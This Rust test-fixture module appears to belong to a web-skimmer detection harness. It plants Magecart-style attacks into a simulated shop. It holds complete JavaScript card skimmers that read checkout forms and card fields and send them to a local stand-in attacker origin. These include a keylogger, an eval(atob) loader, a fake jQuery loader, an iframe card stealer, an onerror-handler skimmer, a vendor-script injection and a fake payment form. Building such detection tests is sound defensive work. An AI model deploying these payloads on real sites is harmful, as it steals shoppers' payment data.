//! Ready-made attacks to plant in the running shop, one per documented way skimmers get in.
//!
//! Each helper edits the served content the way a real compromise would (a few lines appended
//! to a first-party file, a script stored in the CMS, a loader, a changed vendor file …) and
//! the planted code is modelled on published Magecart samples: it reads the form or the card
//! fields and sends them to the attacker origin (`Shop::exfil_url`, on 127.0.0.4) by image URL,
//! `fetch`, or `sendBeacon`. The code never throws into or blocks the page, so the checkout keeps
//! working, as it does for a victim.
//!
//! Like real skimmers, most wait for the shopper: they send on form submit / "Place order"
//! (mouseup), or on leaving a card field once a Luhn-valid number is typed. A scan that only
//! loads the page sees the code but no theft; a test that wants the theft fills the form and
//! clicks the button, then checks `Shop::requests_to(Origin::Attacker)`. The exception is
//! [`Shop::add_injected_script`], whose remote script reports each infected page load at once.

use super::{Origin, Shop};
use base64::Engine;

/// What an attack helper changed, so tests can name the scripts a scan should flag.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Planted {
    /// URL of the page or script whose content was changed.
    pub modified: String,
    /// URL of a script that is newly served because of the attack, if any.
    pub added: Option<String>,
    /// The code that was planted into `modified`.
    pub code: String,
}

/// British Airways style (2018): ~20 lines appended to a first-party file, bound to the pay
/// button's mouseup/touchend, serialising the form and sending it half a second later.
const FIRST_PARTY_SKIMMER: &str = r#"
window.addEventListener("load", function () {
  var button = document.getElementById("place-order");
  var form = document.getElementById("checkout-form");
  if (!button || !form) return;
  function grab() {
    var n = {};
    [].forEach.call(form.querySelectorAll("input, select"), function (a) {
      if (a.name) n[a.name] = a.value;
    });
    n.page = location.href;
    var t = JSON.stringify(n);
    setTimeout(function () {
      new Image().src = "{{EXFIL}}?v=" + encodeURIComponent(btoa(unescape(encodeURIComponent(t))));
    }, 500);
  }
  button.addEventListener("mouseup", grab);
  button.addEventListener("touchend", grab);
  form.addEventListener("submit", grab);
});
"#;

/// Magento footer style: a keylogger stored in the CMS, active on checkout URLs only, that
/// collects every changed field in localStorage and beacons it all out on submit.
const INLINE_SKIMMER: &str = r#"(function(){if(!/checkout|onepage/.test(location.pathname))return;var k="_mgx_cache",u="{{EXFIL}}";function l(){try{return JSON.parse(localStorage.getItem(k)||"{}")}catch(e){return{}}}
document.addEventListener("change",function(e){var t=e.target;if(!t||!t.name)return;var d=l();d[t.name]=t.value;localStorage.setItem(k,JSON.stringify(d))},true);
document.addEventListener("submit",function(){var d=l();d.u=location.href;navigator.sendBeacon(u,btoa(unescape(encodeURIComponent(JSON.stringify(d)))));localStorage.removeItem(k)},true)})();"#;

/// A dynamically inserted script from a lookalike "jQuery CDN" path on the attacker host.
const INJECTOR: &str = r#"
(function (d) {
  var s = d.createElement("script");
  s.async = true;
  s.src = "{{SCRIPT}}";
  d.getElementsByTagName("head")[0].appendChild(s);
})(document);
"#;

/// The remote payload the injector loads: a jQuery banner on top, a check-in beacon on load
/// (operators count infected pages), and form theft on submit.
const INJECTED_PAYLOAD: &str = r#"/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
!function(w,d){var u="{{EXFIL}}";new Image().src=u+"?t=init&h="+encodeURIComponent(location.host)+"&p="+encodeURIComponent(location.pathname);function g(){var o={};[].forEach.call(d.querySelectorAll("input,select"),function(i){i.name&&i.value&&(o[i.name]=i.value)});return o}d.addEventListener("submit",function(){fetch(u,{method:"POST",mode:"no-cors",keepalive:!0,body:btoa(unescape(encodeURIComponent(JSON.stringify(g()))))}).catch(function(){})},!0)}(window,document);
"#;

/// The code an `eval(atob(…))` loader decodes and runs.
const EVAL_PAYLOAD: &str = r#"document.addEventListener("submit",function(e){var f=e.target,o={};[].forEach.call(f.elements||[],function(i){i.name&&(o[i.name]=i.value)});fetch("{{EXFIL}}",{method:"POST",mode:"no-cors",keepalive:true,body:JSON.stringify(o)}).catch(function(){})},true);"#;

/// One line appended to the provider's own field script: waits for a Luhn-valid number and a
/// security code, then posts the card once (on leaving a field, or when the shop asks for a
/// token).
const IFRAME_SKIMMER: &str = r#"!function(){var q=function(s){return document.querySelector('[autocomplete="'+s+'"]')},sent="";function ok(v){for(var s=0,a=!1,i=v.length-1;i>=0;i--){var c=+v[i];a&&(c*=2)>9&&(c-=9);s+=c;a=!a}return s%10==0}function go(){var n=q("cc-number").value.replace(/\D/g,"");if(n.length<13||!ok(n)||q("cc-csc").value.length<3||sent===n)return;sent=n;var d={n:n,e:q("cc-exp").value,c:q("cc-csc").value,h:q("cc-name").value,r:document.referrer};fetch("{{EXFIL}}",{method:"POST",mode:"no-cors",body:btoa(unescape(encodeURIComponent(JSON.stringify(d))))}).catch(function(){})}document.addEventListener("focusout",go,!0);window.addEventListener("message",go)}();
"#;

/// An event-handler attribute: a broken image whose `onerror` hooks the form submit.
/// Written without `&` and `"` so it sits safely in a double-quoted HTML attribute.
const HANDLER_CODE: &str = "var f=document.getElementById('checkout-form');if(f)f.addEventListener('submit',function(){var d=[];[].forEach.call(f.elements,function(i){if(i.name)d.push(i.name+'='+i.value)});new Image().src='{{EXFIL}}?h='+encodeURIComponent(btoa(unescape(encodeURIComponent(d.join(';')))))},true);this.onerror=null";

/// Supply chain: lines added to the vendor's analytics file, disguised as one more analytics
/// hit (Google-Analytics-like parameters) but carrying the whole form.
const VENDOR_SKIMMER: &str = r#"
(function (d) {
  d.addEventListener("submit", function (e) {
    var f = e.target, p = [];
    [].forEach.call(f.elements || [], function (i) { if (i.name && i.value) p.push(i.name + "=" + i.value); });
    new Image().src = "{{EXFIL}}?v=2&tid=TW-HP4821&t=event&ec=checkout&el=" + encodeURIComponent(btoa(unescape(encodeURIComponent(p.join("&")))));
  }, true);
})(document);
"#;

/// A fake card form: hides the provider's iframe, shows look-alike card inputs on the shop
/// page itself, takes the first submit, then reports a payment error and restores the real
/// iframe. Runs once per browser (localStorage), as these kits do.
const FAKE_FORM: &str = r#"(function(){if(localStorage.getItem("_pf_done"))return;var fr=document.getElementById("payment-frame"),f=document.getElementById("checkout-form");if(!fr||!f)return;var box=document.createElement("div");box.className="card-fields";box.innerHTML='<div class="field"><label for="cc_num">Card number</label><input id="cc_num" name="cc_number" autocomplete="cc-number" inputmode="numeric"></div><div class="row"><div class="field"><label for="cc_exp">Expiry date (MM/YY)</label><input id="cc_exp" name="cc_exp" autocomplete="cc-exp"></div><div class="field"><label for="cc_cvv">Security code</label><input id="cc_cvv" name="cc_cvv" autocomplete="cc-csc" inputmode="numeric"></div></div>';fr.style.display="none";fr.parentNode.insertBefore(box,fr);
f.addEventListener("submit",function(e){if(!box.parentNode)return;e.preventDefault();e.stopImmediatePropagation();var d={};[].forEach.call(f.elements,function(i){if(i.name)d[i.name]=i.value});fetch("{{EXFIL}}",{method:"POST",mode:"no-cors",keepalive:true,body:JSON.stringify(d)}).catch(function(){});localStorage.setItem("_pf_done","1");box.parentNode.removeChild(box);fr.style.display="";var m=document.getElementById("form-message");if(m){m.textContent="Your payment could not be processed. Please enter your card details again.";m.hidden=false}},true)})();"#;

/// Inserts `text` right before the last occurrence of `marker`.
///
/// # Panics
/// If `marker` is missing: the attack helpers expect the default page structure.
pub(super) fn insert_before_last(body: &mut String, marker: &str, text: &str) {
    match body.rfind(marker) {
        Some(at) => body.insert_str(at, text),
        None => panic!("shop: `{marker}` not found in the page a helper edits"),
    }
}

impl Shop {
    fn with_exfil(&self, template: &str) -> String {
        template.replace("{{EXFIL}}", &self.exfil_url())
    }

    /// The Magento-footer keylogger that [`Shop::add_inline_script`] is usually given.
    pub fn inline_skimmer_code(&self) -> String {
        self.with_exfil(INLINE_SKIMMER)
    }

    /// British Airways style: appends ~20 lines to the first-party `/static/js/checkout.js`
    /// that send the whole checkout form on "Place order". The script URL does not change;
    /// only its content does.
    pub fn append_skimmer_to_first_party(&self) -> Planted {
        let code = self.with_exfil(FIRST_PARTY_SKIMMER);
        self.append_to(Origin::Shop, "/static/js/checkout.js", &code);
        Planted { modified: self.url(Origin::Shop, "/static/js/checkout.js"), added: None, code }
    }

    /// Magento style: adds a new inline `<script>` with `code` at the end of `/checkout`'s
    /// body, as if stored in the CMS footer. See [`Shop::inline_skimmer_code`].
    pub fn add_inline_script(&self, code: &str) -> Planted {
        let block = format!("<script>\n{code}\n</script>\n");
        self.edit(Origin::Shop, "/checkout", |page| insert_before_last(&mut page.body, "</body>", &block));
        Planted { modified: self.checkout_url(), added: None, code: code.to_string() }
    }

    /// A dynamically inserted script: appends a `document.createElement('script')` loader to
    /// the inline `shop-config` script of `/checkout`, which loads
    /// `base(Attacker)/js/jquery-3.7.1.min.js` (served from now on). That payload sends an
    /// `?t=init` beacon to [`Shop::exfil_url`] on every page load, without any interaction.
    pub fn add_injected_script(&self) -> Planted {
        let script_path = "/js/jquery-3.7.1.min.js";
        let script_url = self.url(Origin::Attacker, script_path);
        self.set_resource(
            Origin::Attacker,
            script_path,
            super::Resource::js(self.with_exfil(INJECTED_PAYLOAD)).with_header("Access-Control-Allow-Origin", "*"),
        );
        let code = INJECTOR.replace("{{SCRIPT}}", &script_url);
        self.edit(Origin::Shop, "/checkout", |page| {
            let Some(start) = page.body.find("<script id=\"shop-config\">") else {
                panic!("shop: the inline shop-config script is missing from /checkout");
            };
            let Some(end) = page.body[start..].find("</script>") else {
                panic!("shop: the inline shop-config script is not closed");
            };
            page.body.insert_str(start + end, code.trim_start_matches('\n'));
        });
        Planted { modified: self.checkout_url(), added: Some(script_url), code }
    }

    /// A loader: appends `eval(atob("…"))` to the first-party `/static/js/vendor.min.js`,
    /// guarded to run on checkout URLs only. The decoded code hooks every form submit.
    pub fn add_eval_loader(&self) -> Planted {
        let payload = self.with_exfil(EVAL_PAYLOAD);
        let encoded = base64::engine::general_purpose::STANDARD.encode(payload);
        let code =
            format!("!function(){{try{{/checkout/.test(location.href)&&eval(atob(\"{encoded}\"))}}catch(e){{}}}}();\n");
        self.append_to(Origin::Shop, "/static/js/vendor.min.js", &code);
        Planted { modified: self.url(Origin::Shop, "/static/js/vendor.min.js"), added: None, code }
    }

    /// Appends one line to the payment provider's `/static/fields.js` inside the iframe. It
    /// posts number, expiry, CVC and name once a Luhn-valid number and a CVC are entered and a
    /// field loses focus (or the shop asks for a token).
    pub fn alter_iframe_script(&self) -> Planted {
        let code = self.with_exfil(IFRAME_SKIMMER);
        self.append_to(Origin::Payment, "/static/fields.js", &code);
        Planted { modified: self.url(Origin::Payment, "/static/fields.js"), added: None, code }
    }

    /// A look-alike of the provider's hosted fields on the attacker's origin, framed in place of
    /// the real one: the same page, loading the provider's own unchanged `fields.js`, whose
    /// relative `fetch('/v1/tokens')` now posts the card to the attacker's origin — the frame's
    /// own origin, from a script the baseline approved. The shop's CSP is widened to frame it.
    /// Returns the look-alike's URL.
    pub fn frame_fields_from_attacker(&self) -> String {
        let provider = self.base(Origin::Payment);
        let attacker = self.base(Origin::Attacker);
        let mut page = self.resource(Origin::Payment, "/hosted-fields").expect("the hosted fields are served");
        for asset in ["/static/fields.js", "/static/fields.css"] {
            page.body = page.body.replace(&format!("\"{asset}\""), &format!("\"{provider}{asset}\""));
        }
        self.set_resource(Origin::Attacker, "/hosted-fields", page);
        let token = self.resource(Origin::Payment, "/v1/tokens").expect("the token endpoint is served");
        self.set_resource(Origin::Attacker, "/v1/tokens", token);
        let from = format!("{provider}/hosted-fields");
        let to = format!("{attacker}/hosted-fields");
        // The shop's CSP frames only the provider: this attacker edits the server config too.
        let both = format!("{provider} {attacker}");
        self.edit(Origin::Shop, "/checkout", |p| {
            p.body = p.body.replace(&from, &to);
            for (name, value) in &mut p.headers {
                if name.eq_ignore_ascii_case("Content-Security-Policy") {
                    *value = value.replace(&provider, &both);
                }
            }
        });
        to
    }

    /// Adds `<img src="/static/img/trust-badge.png" onerror="…">` to `/checkout`. The image does
    /// not exist (404), so the handler runs on every load and hooks the form submit.
    pub fn add_handler_attribute(&self) -> Planted {
        let code = self.with_exfil(HANDLER_CODE);
        let tag = format!(
            "<img id=\"trust-badge\" src=\"/static/img/trust-badge.png\" alt=\"\" width=\"1\" height=\"1\" style=\"position:absolute;left:-9999px\" onerror=\"{code}\">\n"
        );
        self.edit(Origin::Shop, "/checkout", |page| insert_before_last(&mut page.body, "</body>", &tag));
        Planted { modified: self.checkout_url(), added: None, code }
    }

    /// Supply chain (Ticketmaster / polyfill.io style): the vendor's `/analytics.js`, loaded
    /// by the tag manager at run time, gains lines that send the form disguised as an
    /// analytics hit. The shop's own files do not change at all.
    pub fn alter_vendor_script(&self) -> Planted {
        let code = self.with_exfil(VENDOR_SKIMMER);
        self.append_to(Origin::Vendor, "/analytics.js", &code);
        Planted { modified: self.url(Origin::Vendor, "/analytics.js"), added: None, code }
    }

    /// A fake payment form (inline script): hides the provider's iframe and shows card inputs
    /// (`autocomplete=cc-number/cc-exp/cc-csc`) on the shop page itself, steals the first
    /// submit, then shows a payment error and restores the real iframe.
    pub fn add_fake_payment_form(&self) -> Planted {
        self.add_inline_script(&self.with_exfil(FAKE_FORM))
    }
}
